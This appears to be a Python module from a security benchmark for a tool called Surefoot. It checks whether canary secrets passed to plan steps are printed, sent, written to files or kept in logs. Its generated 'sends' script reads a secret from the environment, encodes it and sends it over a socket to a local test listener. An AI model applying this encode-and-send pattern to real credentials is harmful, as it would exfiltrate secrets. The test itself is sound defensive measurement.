"""What goes through the openings that a plan declares: the network, and a secret by `env_from`."""

from __future__ import annotations

import json
import secrets
import sys
from dataclasses import dataclass

from bench.injections.counting import found_in, kept_by
from bench.injections.stage import OPENED, Stage

WAYS = ("plain", "base64", "reversed")
_BEGIN = """import base64, os, socket, sys
secret = os.environ[sys.argv[1]]
ways = {"plain": secret, "base64": base64.b64encode(secret.encode()).decode(), "reversed": secret[::-1]}
text = ways[sys.argv[2]]
"""
_DEEDS = {
    "prints": ("print(text)", "network: true, effect: read"),
    "sends": (
        "line = socket.create_connection(('127.0.0.1', PORT)); line.sendall((text + '\\r\\n\\r\\n').encode())",
        "network: true, effect: read",
    ),
    "keeps": ("open('kept-%s.txt' % sys.argv[2], 'w').write(text)", "writes: ['kept-*.txt']"),
    "hands-on": ("open(os.environ['SUREFOOT_OUTPUT'], 'w').write('found=' + text + chr(10))", "writes: [none.txt]"),
}
"""What is done with the secret, and with what keys of the plan."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Opening:
    """What one step did through its opening."""

    step: str
    """What it did, and in which disguise."""
    state: str
    """How it ended."""
    is_sent: bool
    """Whether the secret reached the world outside, as the plan's author allowed."""
    kept: tuple[str, ...]
    """Where Surefoot keeps or shows it."""


def through_openings(stage: Stage) -> list[Opening]:
    """Run the steps, and say of each how it ended and where its secret is."""
    own = {f"{deed}-{way}": f"canary{secrets.token_hex(16)}" for deed in _DEEDS for way in WAYS}
    variables = {_variable(step): secret for step, secret in own.items()}
    plan = stage.folder / "opened.yaml"
    plan.write_text(_plan(stage), "utf-8")
    heard = len(stage.outside.received)
    done = stage.say("run", str(plan), "--run-id", OPENED, more=variables)
    shown = done.stdout + done.stderr + stage.say("show", OPENED, "--events", more=variables).stdout
    report = json.loads(stage.say("report", OPENED, "--json", more=variables).stdout)
    kept = {**kept_by(stage, more=variables), "terminal": shown.encode()}
    states = {step["id"]: step["state"] for step in report["steps"]}
    sent = {"sent": b"\n".join(stage.outside.received[heard:])}
    return [
        Opening(
            step=step.replace("-", " "),
            state=states[step],
            is_sent=bool(list(found_in(sent, {step: secret}))),
            kept=tuple(sorted({found.place for found in found_in(kept, {step: secret})})),
        )
        for step, secret in own.items()
    ]


def _variable(step: str) -> str:
    return f"TOKEN_{step.replace('-', '_').upper()}"


def _plan(stage: Stage) -> str:
    steps: list[str] = []
    for deed, (script, keys) in _DEEDS.items():
        text = _BEGIN + script.replace("PORT", str(stage.outside.port)) + "\n"
        (stage.folder / f"{deed}.py").write_text(text, "utf-8")
        for way in WAYS:
            name = _variable(f"{deed}-{way}")
            run = f"{sys.executable} $SUREFOOT_FILES/{deed}.py {name} {way}"
            steps.append(f"  - {{id: {deed}-{way}, run: '{run}', env_from: [{name}], {keys}}}")
    files = ", ".join(f"{deed}.py" for deed in _DEEDS)
    return "\n".join(["goal: Use what is open", f"files: [{files}]", "limits: {attempts: 1}", "steps:", *steps, ""])
